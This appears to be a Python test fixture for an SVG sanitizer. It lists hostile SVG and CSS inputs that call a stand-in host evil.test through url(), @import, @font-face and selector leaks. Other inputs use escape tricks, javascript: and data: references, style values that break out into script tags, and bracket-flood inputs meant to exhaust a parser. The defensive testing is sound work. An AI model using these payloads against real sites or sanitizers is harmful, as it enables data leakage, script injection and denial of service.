"""Drawings that lead elsewhere, or try to, by CSS and by values that are read like it."""

from __future__ import annotations

from tests.unit.svg.sanitizer.hostile.parts import JS, RECT, drawing, styled

STYLE: dict[str, bytes] = {
    # References in attributes and style
    "paint of elsewhere": drawing(f'<path d="{RECT}" fill="url(http://evil.test/#g)"/>'),
    "paint of elsewhere, in quotes": drawing(
        f"""<path d="{RECT}" stroke="url('//evil.test/x.svg#g') red"/>"""
    ),
    "paint of javascript": drawing(f'<path d="{RECT}" fill="url({JS})"/>'),
    "paint of data": drawing(f'<path d="{RECT}" fill="url(data:image/svg+xml,%3Csvg/%3E#g)"/>'),
    "paint with an escape": drawing(f'<path d="{RECT}" fill="u\\72l(http://evil.test/#g)"/>'),
    "paint with a comment": drawing(f'<path d="{RECT}" fill="url/**/(http://evil.test/#g)"/>'),
    "clip of elsewhere": drawing(f'<path d="{RECT}" clip-path="url(http://evil.test/#c)"/>'),
    "filter, mask, marker, cursor of elsewhere": drawing(
        f'<path d="{RECT}" filter="url(//evil.test/#a)" mask="url(//evil.test/#b)" '
        'marker-end="url(//evil.test/#c)" cursor="url(//evil.test/d.cur), auto"/>'
    ),
    "style attribute with url": drawing(
        f'<path d="{RECT}" style="fill:url(http://evil.test/#g);background:url(//evil.test/b)"/>'
    ),
    "style attribute with an escaped url": drawing(
        f'<path d="{RECT}" style="fill:\\75\\72\\6c(http://evil.test/#g)"/>'
    ),
    "style attribute with an escaped name": drawing(
        f'<path d="{RECT}" style="f\\69ll:url(\'http://evil.test/#g\')"/>'
    ),
    "style attribute with an image set": drawing(
        f'<path d="{RECT}" style="mask:image-set(\'//evil.test/x\' 1x);'
        'list-style:url(//evil.test)"/>'
    ),
    "style attribute with an expression": drawing(
        f'<path d="{RECT}" style="width:expression(hit());behavior:url(x.htc);'
        '-moz-binding:url(x)"/>'
    ),
    "style attribute that breaks out": drawing(
        f'<path d="{RECT}" style="fill:red&quot;/&gt;&lt;script&gt;hit()&lt;/script&gt;"/>'
    ),
    "style sheet with import": styled('@import "http://evil.test/x.css"; .a{fill:red}'),
    "style sheet with import by url": styled("@import url(//evil.test/x.css);"),
    "style sheet with escaped import": styled('@\\69mport "http://evil.test/x.css";'),
    "style sheet with import of data": styled("@import 'data:text/css,*{fill:url(//evil.test)}';"),
    "style sheet with a font": styled("@font-face{font-family:a;src:url(http://evil.test/f)}"),
    "style sheet with url": styled(".a{fill:url(http://evil.test/#g);stroke:url(#gone)}"),
    "style sheet with escaped url": styled(".a{fill:\\000075rl(http://evil.test/#g)}"),
    "style sheet in media": styled("@media all{.a{fill:url(http://evil.test/#g)}}"),
    "style sheet with namespaces and charset": styled(
        '@charset "utf-7";@namespace x url(http://evil.test/);x|path{fill:red}'
    ),
    "style sheet that leaks by selectors": styled(
        'path[id^="p"]{fill:url(//evil.test/p)} .a:hover{cursor:url(//evil.test/h)}'
    ),
    "style sheet with variables": styled(":root{--u:url(//evil.test)} .a{fill:var(--u)}"),
    "style sheet with animation": styled(
        "@keyframes k{to{fill:url(//evil.test)}} .a{animation:k 1s infinite}"
    ),
    "style sheet that never ends": styled(".a{fill:url(//evil.test/x"),
    "style sheet of brackets": styled(".a{fill:" + "(" * 9_000),
    "style sheet of blocks": styled("{[(" * 9_000),
    "style attribute of brackets": drawing(f'<g style="fill:{"rgb(" * 2_000}"/>'),
    "style sheet of a comment": styled("/*" + "*" * 50_000),
    "style sheet of escapes": styled("\\" * 50_000),
    "style sheet that closes itself": drawing(
        "<style>.a{fill:red}&lt;/style&gt;&lt;script&gt;hit()&lt;/script&gt;</style>"
    ),
}
